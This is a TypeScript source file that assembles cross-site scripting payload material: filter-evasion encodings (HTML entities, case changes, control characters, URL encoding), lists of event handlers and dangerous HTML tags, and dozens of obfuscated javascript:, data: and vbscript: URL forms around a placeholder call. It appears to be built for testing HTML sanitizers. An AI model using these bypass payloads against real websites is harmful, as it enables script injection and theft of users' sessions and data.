/** Stands for the call that an attack makes where it runs. */
export const call = "X()";

/** How the same code or address hides from a filter that looks for letters. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("X()", call),
  (text) => Array.from(text, (sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join(""),
  (text) => Array.from(text, (sign) => `&#${sign.codePointAt(0)};`).join(""),
  (text) => Array.from(text, (sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join(""),
  (text) =>
    Array.from(text, (sign) => `&#${String(sign.codePointAt(0)).padStart(7, "0")}`).join(""),
  (text) => text.replace(/(?<=.{3})/, "\t"),
  (text) => text.replace(/(?<=.{3})/, "\n"),
  (text) => text.replace(/(?<=.{3})/, "\0"),
  (text) => text.replace(/(?<=.{4})/, "&Tab;"),
  (text) => text.replace(":", "&colon;"),
  (text) => `\u0001${text}`,
  (text) => ` ${text}`,
  (text) => encodeURIComponent(text),
];

export const events = [
  "abort afterprint animationcancel animationend animationiteration animationstart auxclick",
  "beforecopy beforecut beforeinput beforeprint beforetoggle beforeunload begin blur canplay",
  "canplaythrough change click close contextmenu copy cuechange cut dblclick drag dragend",
  "dragenter dragleave dragover dragstart drop durationchange end ended error focus focusin",
  "focusout fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load",
  "loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave",
  "mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing",
  "pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover",
  "pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend",
  "search seeked seeking select selectionchange selectstart slotchange stalled submit suspend",
  "timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend",
  "transitionrun transitionstart unhandledrejection unload volumechange waiting wheel",
].flatMap((line) => line.split(" "));

export const hosts = [
  "img src=x",
  "svg",
  "body",
  "video src=x autoplay",
  "input autofocus",
  "details open",
];

export const tags = [
  "script iframe object embed applet frame frameset base link meta style svg math form button",
  "select textarea template slot noscript noembed noframes xmp plaintext listing marquee bgsound",
  "isindex keygen portal fencedframe dialog details audio video source track picture image canvas",
  "area map table td blink layer ilayer param xml xss custom-element",
].flatMap((line) => line.split(" "));

const code = `javascript:${call}`;
export const addressForms = [
  ...disguises.map((disguise) => disguise(code)),
  `vbscript:msgbox(1)//${call}`,
  `livescript:${call}`,
  `mocha:${call}`,
  `jar:javascript:${call}`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5YKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `blob:null/${call}`,
  `filesystem:javascript:${call}`,
  `javascript://example.com/%0a${call}`,
  `javascript://%E2%80%A8${call}`,
  `//javascript:${call}`,
  `\\javascript:${call}`,
  `/\\javascript:${call}`,
  `java\u00adscript:${call}`,
  `javascript\u200b:${call}`,
  `\u3000javascript:${call}`,
  `javascript&NewLine;:${call}`,
  `&NewLine;javascript:${call}`,
];
